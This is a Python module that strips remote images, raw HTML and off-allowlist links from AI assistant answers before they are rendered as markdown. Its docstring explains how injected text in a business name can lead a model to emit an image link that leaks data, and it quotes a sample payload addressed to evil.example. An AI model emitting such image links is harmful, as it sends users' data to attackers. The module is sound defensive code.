"""Assistant text made safe to render: no remote images, no links to hosts Vaultra does not cite.

A model's answer can repeat what it read in a business name or a Stripe description, so a
name like ``![x](https://evil.example/?d=secret)`` would make any client that renders markdown
fetch that address, with whatever data the model put in it (exfiltration by image). Here every
image (markdown, reference-style, raw ``<img>``) becomes its alt text, raw HTML is dropped, and
a link stays a link only when its host is on the allowlist (the public sources Vaultra's corpus
and scoring method cite, plus the app itself); otherwise it becomes its text.

markdown-it (CommonMark) finds the constructs, so the rewrite sees what a renderer would see; if
a rewrite still parses as something unsafe (an unusual nesting), every bracket and angle bracket
is escaped, which leaves CommonMark nothing to build a link, image or tag from.

``core.answer_guard`` applies the same to a stream.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlsplit

from markdown_it import MarkdownIt
from markdown_it.rules_inline import StateInline
from markdown_it.token import Token

Span = tuple[int, int, str]  # start, end, replacement (offsets in the parsed text)
IMAGE_NOTE = "image not shown"
UNSAFE_LABEL = re.compile(r"[\[\]()<>!`\\*_]")
CONSTRUCTS = ("image", "link_open", "html_inline")
FOUND, POLICY = "vaultra_found", "vaultra_policy"  # keys of the parse's env
ESCAPED = re.compile(r"([\\\[\]<>])")


def host_of(url: str) -> str | None:
    """The host a public https link points at, lower case and without ``www.``; else None."""
    try:
        parts = urlsplit(url.strip())
        hostname = parts.hostname
    except ValueError:
        return None
    if parts.scheme != "https" or not hostname or "@" in parts.netloc:
        return None
    return hostname.lower().removeprefix("www.")


@dataclass(frozen=True)
class LinkPolicy:
    """Which links may stay links: https to one of ``hosts``, or anything under ``own_origin``."""

    hosts: frozenset[str] = frozenset()
    own_origin: str | None = None  # scheme://host[:port] of the app's public URL

    @classmethod
    def of(cls, source_urls: Iterable[str], public_url: str | None = None) -> LinkPolicy:
        hosts = frozenset(h for h in map(host_of, source_urls) if h is not None)
        origin = None
        if public_url:
            parts = urlsplit(public_url)
            if parts.scheme in ("http", "https") and parts.netloc:
                origin = f"{parts.scheme}://{parts.netloc}".lower()
        return cls(hosts, origin)

    def allows(self, url: str) -> bool:
        if self.own_origin is not None:
            try:
                parts = urlsplit(url.strip())
            except ValueError:
                return False
            if f"{parts.scheme}://{parts.netloc}".lower() == self.own_origin:
                return True
        host = host_of(url)
        return host is not None and host in self.hosts


NO_LINKS = LinkPolicy()


def neutralise(text: str, policy: LinkPolicy) -> str:
    """``text`` with images, raw HTML and links off the allowlist made plain (see the module)."""
    text = normalised(text)
    if "[" not in text and "<" not in text:
        return text  # nothing CommonMark can build a link, image or tag from
    safe = _rewrite(text, _spans(text, policy))
    return safe if is_safe(safe, policy) else escape_all(safe)


def is_safe(text: str, policy: LinkPolicy) -> bool:
    """True when ``text``, rendered as CommonMark, fetches nothing and links only where allowed."""
    text = normalised(text)
    return ("[" not in text and "<" not in text) or not _spans(text, policy)


def escape_all(text: str) -> str:
    """Every ``[``, ``]``, ``<``, ``>`` (and backslash) backslash-escaped: plain text to any
    CommonMark renderer (no link, image, definition or tag can be built without them)."""
    return ESCAPED.sub(r"\\\1", normalised(text))


def normalised(text: str) -> str:
    """Line ends and NULs as markdown-it reads them (offsets here refer to this form)."""
    return text.replace("\r\n", "\n").replace("\r", "\n").replace("\0", "\ufffd")


def _rewrite(text: str, spans: list[Span]) -> str:
    out, at = [], 0
    for start, end, replacement in sorted(_outermost(spans)):
        out += [text[at:start], replacement]
        at = end
    return "".join([*out, text[at:]])


def _outermost(spans: list[Span]) -> list[Span]:
    chosen: list[Span] = []
    for span in sorted(spans, key=lambda s: (s[0], -s[1])):
        if not chosen or span[0] >= chosen[-1][1]:
            chosen.append(span)
    return chosen


# --- finding the constructs ---------------------------------------------------------------


def _recording(rule: Callable[[StateInline, bool], bool]) -> Callable[[StateInline, bool], bool]:
    """``rule``, noting where in its inline's source each construct it builds starts and ends,
    with what it should become (the parse keeps no source positions of its own)."""

    def wrapped(state: StateInline, silent: bool) -> bool:
        start, first = state.pos, len(state.tokens)
        matched = rule(state, silent)
        if matched and not silent:
            replacement = _replacement(state.tokens[first:], state.env[POLICY])
            if replacement is not None:
                state.env[FOUND].setdefault(state.src, set()).add((start, state.pos, replacement))
        return matched

    return wrapped


def _parser() -> MarkdownIt:
    md = MarkdownIt("commonmark")
    for name in ("link", "image", "autolink", "html_inline"):
        rule = next(r.fn for r in md.inline.ruler.__rules__ if r.name == name)
        md.inline.ruler.at(name, _recording(rule))
    return md


PARSER = _parser()


def _spans(text: str, policy: LinkPolicy) -> list[Span]:
    """Every unsafe construct in ``text`` with its replacement; an inline whose source cannot
    be located makes the whole text fall back to ``escape_all``."""
    found: dict[str, set[Span]] = {}
    env: dict[str, Any] = {FOUND: found, POLICY: policy}
    tokens = PARSER.parse(text, env)
    lines = _line_offsets(text)
    spans: list[Span] = []
    for token in tokens:
        if token.type == "html_block" and token.map:
            spans.append((lines[token.map[0]], lines[token.map[1]], ""))
        elif token.type == "inline" and token.map:
            located = _located(text, lines, token)
            for start, end, replacement in found.get(token.content, ()):
                if located is None:
                    return [(0, len(text), escape_all(text))]
                spans.append((located[start], located[end - 1] + 1, replacement))
    for reference in env.get("references", {}).values():
        if not policy.allows(reference["href"]):
            first, last = reference["map"]
            spans.append((lines[first], lines[last], ""))
    return spans


def _replacement(made: list[Token], policy: LinkPolicy) -> str | None:
    """What an unsafe construct becomes (None: it is safe as written). ``made`` may begin with
    the text the parser had pending before the construct."""
    made = made[next(i for i, t in enumerate(made) if t.type in CONSTRUCTS) :]
    head = made[0]
    if head.type == "image":
        alt = _label(head.content)
        return f"({IMAGE_NOTE}: {alt})" if alt else f"({IMAGE_NOTE})"
    if head.type == "html_inline":
        return ""
    href = str(head.attrs.get("href", ""))
    if policy.allows(href):
        return None
    text = _label("".join(t.content for t in made[1:-1] if t.type in ("text", "code_inline")))
    if not text or text == href:
        return _label(href.split("://", 1)[-1])  # no scheme: nothing left to autolink
    return text


def _label(text: str) -> str:
    return " ".join(UNSAFE_LABEL.sub("", text).split())


def _line_offsets(text: str) -> list[int]:
    """Where each line starts, then the end of the text: line n is ``offsets[n]:offsets[n+1]``."""
    offsets = [0, *(m.end() for m in re.finditer("\n", text))]
    return offsets if offsets[-1] == len(text) else [*offsets, len(text)]


def _located(text: str, lines: list[int], token: Token) -> list[int] | None:
    """For each character of an inline's content, its offset in ``text`` (None if not found:
    a tab expanded inside a container, say)."""
    assert token.map is not None
    located: list[int] = []
    for i, part in enumerate(token.content.split("\n")):
        n = token.map[0] + i
        if n + 1 >= len(lines):
            return None
        source = text[lines[n] : lines[n + 1]].removesuffix("\n")
        at = _position(source, part)
        if at is None:
            return None
        base = lines[n] + at
        located += range(base, base + len(part))
        located.append(base + len(part))  # the newline joining this line to the next
    return located


def _position(source: str, part: str) -> int | None:
    trimmed, wanted = source.rstrip(), part.rstrip()
    if trimmed.endswith(wanted):
        return len(trimmed) - len(wanted)
    return source.find(wanted) if wanted and source.count(wanted) == 1 else None
